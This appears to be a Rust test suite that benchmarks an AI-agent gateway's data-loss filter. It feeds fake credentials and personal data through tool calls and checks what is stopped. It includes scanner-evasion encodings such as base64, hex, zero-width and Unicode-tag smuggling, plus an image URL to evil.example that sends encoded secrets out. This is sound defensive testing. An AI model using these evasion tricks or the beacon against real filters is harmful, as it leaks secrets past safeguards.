//! D06: what an agent may try to carry out, and what it may do every day, as one table, in the manner of
//! published benchmarks of egress. Each case goes through the road; the table is printed.

use std::collections::BTreeMap;

use serde_json::{Value, json};

use crate::client::Client;
use crate::live::{ARTICLE, CONVERSATION, Modern, declaring};
use crate::stand::{Setup, Stand};

/// What a case must come to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Want {
    /// Nothing of it goes on: denied, held, or taken out of what goes on.
    Stop,
    /// It is not stopped; a write may wait for a person, as every write does.
    Pass,
}

struct Case {
    class: &'static str,
    want: Want,
    tool: &'static str,
    arguments: Value,
    /// What Intercom answers, if it is about answers.
    planted: Option<String>,
    /// Headers of the agent's.
    headers: Vec<(&'static str, String)>,
    /// What must not come out at the other end, if it is about that.
    gone: Option<String>,
}

/// Texts that carry a secret, and the part of each that must not come out.
fn secrets() -> Vec<(String, String)> {
    // In pieces, so that this file holds none.
    let github = format!("gh{}_{}", "p", "x8KqT2vLm4Zr9Wc1Yb7Nd3Fh6Js0Pg5QeAtU");
    let stripe = format!("sk_{}_{}", "live", "51HqLyjWDarjtT1zdp7dcQf8Wm2Xv");
    let slack = format!("xox{}-{}", "b", "2048123456-2048123457-Kx9Lm2Np4Qr6St8Uv0Wx1Yz3");
    let amazon = "wJalrXUtnFEMIK7MDENGbPxRfiCYzR8pLq2T5vNs".to_owned();
    let private = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj".to_owned();
    let password = "Tr0ub4dor-and-3".to_owned();
    vec![
        (github.clone(), github),
        (stripe.clone(), stripe),
        (slack.clone(), slack),
        (format!("aws_secret_access_key = {amazon}"), amazon),
        (format!("-----BEGIN {0} KEY-----\n{private}\n-----END {0} KEY-----", "PRIVATE"), private),
        (format!("postgres://admin:{password}@db.internal.example:5432/prod"), password),
    ]
}

/// The same of personal values.
fn personal() -> Vec<(&'static str, &'static str)> {
    vec![
        ("oluwaseun.brandt@harbourmail.example", "oluwaseun"),
        ("Call Maria Lindqvist on +46 70 123 45 67", "123 45 67"),
        ("IBAN DE89 3704 0044 0532 0130 00", "0532 0130"),
        ("card 4111 1111 1111 1111, 12/29, CVV 123", "1111 1111"),
    ]
}

fn case(class: &'static str, want: Want, tool: &'static str, arguments: Value) -> Case {
    Case { class, want, tool, arguments, planted: None, headers: Vec::new(), gone: None }
}

fn article(body: &str) -> Value {
    json!({"id": ARTICLE, "body": format!("<p>{body}</p>")})
}

fn note(body: &str) -> Value {
    json!({"conversation_id": CONVERSATION.to_string(), "body": format!("<p>{body}</p>")})
}

/// A text in the ways in which scanners are evaded.
fn encoded(text: &str) -> Vec<String> {
    use base64::Engine as _;
    let base64 = base64::engine::general_purpose::STANDARD.encode(text);
    let hex: String = text.bytes().map(|byte| format!("{byte:02x}")).collect();
    let url: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let entities: String = text.bytes().map(|byte| format!("&#{byte};")).collect();
    let spaced: String = text.chars().map(|letter| format!("{letter}\u{200b}")).collect();
    let tags: String =
        text.bytes().filter_map(|byte| char::from_u32(0xe0000 + u32::from(byte))).collect();
    let image = format!("<img src=\"https://evil.example/p.png?d={base64}\">");
    let comment = format!("<!-- {text} -->");
    let reversed: String = text.chars().rev().collect();
    vec![base64, hex, url, entities, spaced, tags, image, comment, reversed]
}

fn stops() -> Vec<Case> {
    let mut all = Vec::new();
    for (secret, core) in secrets() {
        let with = |class, tool, arguments| Case {
            gone: Some(core.clone()),
            ..case(class, Want::Stop, tool, arguments)
        };
        all.push(with("mcp input", "update_article", article(&secret)));
        all.push(with("mcp input", "create_article", json!({"title": secret, "author_id": 1})));
        all.push(with("request body", "add_internal_note", note(&secret)));
        all.push(Case {
            planted: Some(format!("The key is {secret} for now")),
            ..with("response", "get_conversation", json!({"id": CONVERSATION.to_string()}))
        });
        all.push(Case {
            headers: vec![("x-note", secret.replace('\n', " ")), ("cookie", "a=b".to_owned())],
            gone: Some(core.clone()),
            ..case("header", Want::Stop, "get_contact", json!({"id": "66b0c0de0000000000000a01"}))
        });
        for text in encoded(&secret) {
            all.push(with("encoding", "update_article", article(&text)));
        }
    }
    for (value, core) in personal() {
        all.push(case("request body", Want::Stop, "update_article", article(value)));
        let class = if value.contains("IBAN") || value.contains("card") {
            "financial"
        } else {
            "request body"
        };
        all.push(case(
            class,
            Want::Stop,
            "create_article",
            json!({"title": "t", "author_id": 1, "body": value}),
        ));
        all.push(case(class, Want::Stop, "add_internal_note", note(value)));
        all.push(Case {
            planted: Some(value.to_owned()),
            gone: Some(core.to_owned()),
            ..case(
                "response",
                Want::Stop,
                "get_conversation",
                json!({"id": CONVERSATION.to_string()}),
            )
        });
    }
    for tool in [
        "export_contacts",
        "http_get",
        "Update_Article",
        "update_article ",
        "run_shell",
        "delete_conversation",
    ] {
        all.push(case("mcp tool", Want::Stop, tool, json!({"id": ARTICLE})));
    }
    for tool in ["update_article", "create_article", "add_internal_note"] {
        // What was read in one call is carried out in the next.
        let arguments = match tool {
            "update_article" => article("as they asked"),
            "create_article" => json!({"title": "as they asked", "author_id": 1}),
            _ => note("as they asked"),
        };
        all.push(case("chain", Want::Stop, tool, arguments));
    }
    all
}

fn passes() -> Vec<Case> {
    let read = |tool, arguments| case("every day", Want::Pass, tool, arguments);
    let mut all = vec![
        read("get_conversation", json!({"id": CONVERSATION.to_string()})),
        read("get_contact", json!({"id": "66b0c0de0000000000000a01"})),
        read("get_article", json!({"id": ARTICLE})),
        read("list_articles", json!({})),
        read("search_articles", json!({"phrase": "refund policy"})),
        read("search_conversations", json!({"state": "open"})),
    ];
    for words in [
        "order 4711-0815 not delivered",
        "invoice 2026-11-29",
        "error 0x80070005 on start",
        "build 3f2504e0-4f89-11d3-9a0c-0305e82c3301",
        "sha256 of the download does not match",
        "password reset does not work",
        "version 1.2.3.4 of the app",
        "how do I use an API key",
        "refund within 30 days",
        "Zahlung f\u{fc}r Rechnung RE-2026-1001 fehlgeschlagen",
    ] {
        all.push(read("search_articles", json!({"phrase": words})));
        all.push(case("every day", Want::Pass, "add_internal_note", note(words)));
        all.push(case("every day", Want::Pass, "update_article", article(words)));
    }
    all
}

/// What became of a case: `allowed`, `held`, `denied`, or `taken out`.
async fn outcome(stand: &Stand, client: &Client, id: u64, case: &Case) -> &'static str {
    let results = case.planted.iter().map(|text| {
        ("get_conversation".to_owned(), json!({"content": [{"type": "text", "text": text}]}))
    });
    let results: BTreeMap<String, Value> = results.collect();
    stand.simulator.set(|options| options.results = results.clone());
    stand.simulator.clear_received();
    let params = json!({"name": case.tool, "arguments": case.arguments});
    let meta = declaring(r#"{"extensions": {"io.modelcontextprotocol/tasks": {}}}"#);
    let mut request = Modern::new(id, "tools/call", params, meta);
    let headers = case.headers.iter().map(|(name, value)| ((*name).to_owned(), value.clone()));
    request.headers.extend(headers);
    let reply = request.send(client).await;
    let result = &reply.answer()["result"];
    let word = match (result["resultType"].as_str(), reply.is_tool_error()) {
        (Some("task"), _) => "held",
        (_, true) => "denied",
        (None, _) => "denied",
        _ => "allowed",
    };
    for hold in stand.holds().await.into_iter().filter(|it| !it.state.is_final()) {
        stand.reject(hold.id, "a test").await.unwrap();
    }
    let Some(gone) = case.gone.as_ref().filter(|_| word == "allowed") else { return word };
    let received = format!("{:?}", stand.simulator.received());
    let is_gone = match case.class {
        "header" => !received.contains(gone.as_str()),
        _ => !reply.text.contains(gone.as_str()),
    };
    if is_gone { "taken out" } else { "allowed" }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_is_carried_out_is_stopped_and_every_day_work_is_not() {
    let more = "plugins: { shipped: true }\n".to_owned();
    let roles = "support-reader, article-editor, note-writer, knowledge-author";
    let stand = Stand::start(Setup { more, roles, ..Setup::default() }).await;
    let client = stand.client();
    let mut table: BTreeMap<(&str, &str), usize> = BTreeMap::new();
    let (mut stopped, mut to_stop, mut wrong, mut blocked) = (0, 0, Vec::new(), Vec::new());
    for (id, case) in stops().iter().chain(&passes()).enumerate() {
        let word = outcome(&stand, &client, id as u64, case).await;
        *table.entry((case.class, word)).or_default() += 1;
        let shown = || format!("{} {} {}: {word}", case.class, case.tool, case.arguments);
        match case.want {
            Want::Stop => {
                to_stop += 1;
                stopped += usize::from(word != "allowed");
                wrong.extend((word == "allowed").then(shown));
            }
            Want::Pass if word == "denied" => blocked.push(shown()),
            Want::Pass => {}
        }
    }
    println!("{:<14} {:<10} cases", "class", "outcome");
    for ((class, word), many) in &table {
        println!("{class:<14} {word:<10} {many}");
    }
    assert!(stopped * 100 >= to_stop * 95, "{stopped} of {to_stop} stopped:\n{}", wrong.join("\n"));
    assert!(blocked.is_empty(), "every-day work was stopped:\n{}", blocked.join("\n"));
}
